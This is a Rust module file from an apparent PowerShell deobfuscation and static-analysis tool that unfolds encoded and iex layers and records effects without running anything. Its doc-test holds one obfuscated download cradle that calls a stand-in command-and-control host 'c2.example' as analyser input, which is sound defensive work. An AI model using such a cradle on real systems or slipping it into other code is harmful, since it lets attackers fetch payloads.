//! PowerShell, evaluated.
//!
//! A text is parsed to a tree, the tree is evaluated under a [`Budget`], and what it would do is recorded with
//! the bytes that do it. Nothing is performed. What depends on the machine, the time or the user stays an
//! unknown expression, and code that the script computes (`-EncodedCommand`, `iex`, unpacked streams) becomes a
//! layer that is evaluated in turn, until nothing new comes.
//!
//! Not here: what a recorded effect means for a verdict (the rules of the files room say that), and any guess
//! at what an unknown value may be.

mod ast;
mod cmdlet;
mod compare;
mod constant;
mod convert;
mod dotnet;
mod engine;
mod known;
mod launcher;
mod names;
mod operate;
mod parser;
mod pattern;
mod rewrite;
mod scanner;
mod signs;
mod strings;
mod value;
mod visit;

use crate::script::{Budget, Unfolded};
use engine::Engine;

pub(crate) use signs::{Sign, signs};

/// Evaluates a script's text.
///
/// The first layer is the text itself, by the rule `source`; each later one names the rule that made it:
/// `encoded-command`, `command`, `stdin`, `iex`, `scriptblock`, `invokescript`, `base64`, `gzip`, `deflate`, `bxor`, `decrypted`, and
/// `deobfuscated` for a layer with its constant expressions computed. Reading never fails: what could not be
/// parsed or evaluated is a gap.
///
/// ```
/// use strongroom_files::powershell::unfold;
/// use strongroom_files::script::{Action, Budget};
/// use strongroom_model::Limits;
///
/// let limits = Limits::default();
/// let script = "$w = 'Net.Web' + 'Client'; (New-Object $w).('Download' + 'String')('http://c2.example/a')";
/// let unfolded = unfold(script, &mut Budget::new(&limits));
/// let urls: Vec<String> = unfolded
///     .effects
///     .iter()
///     .filter_map(|effect| match &effect.action {
///         Action::Download { url, .. } => Some(url.to_string()),
///         _ => None,
///     })
///     .collect();
/// assert_eq!(urls, ["http://c2.example/a"]);
/// ```
pub fn unfold(source: &str, budget: &mut Budget<'_>) -> Unfolded {
    let mut engine = Engine::new(budget);
    engine.enqueue("source", source);
    engine.finish()
}

/// Evaluates a command line that starts PowerShell: the first layer is the line, the next what it runs.
///
/// Follows quoted paths, `cmd /c`, `start`, `call`, carets, `set` with `%name%` and `!name!`, every abbreviation of
/// `-EncodedCommand`, `-Command` and `-File`, and text that `echo` pipes into it. Returns `None` if the line does
/// not start PowerShell.
pub fn unfold_command(line: &str, budget: &mut Budget<'_>) -> Option<Unfolded> {
    let scripts = launcher::scripts(line, budget);
    if !scripts.iter().any(launcher::Script::runs) {
        return None;
    }
    let mut engine = Engine::new(budget);
    engine.start_line(line, scripts);
    Some(engine.finish())
}

/// Searches a text for a pattern with the matcher of this room; for the fuzzer. Returns how many matches there are, `None` where
/// the pattern is outside the known part or the budget ends.
#[doc(hidden)]
pub fn search_pattern(pattern: &str, text: &str, budget: &mut Budget<'_>) -> Option<usize> {
    pattern::search(pattern, text, budget)
}
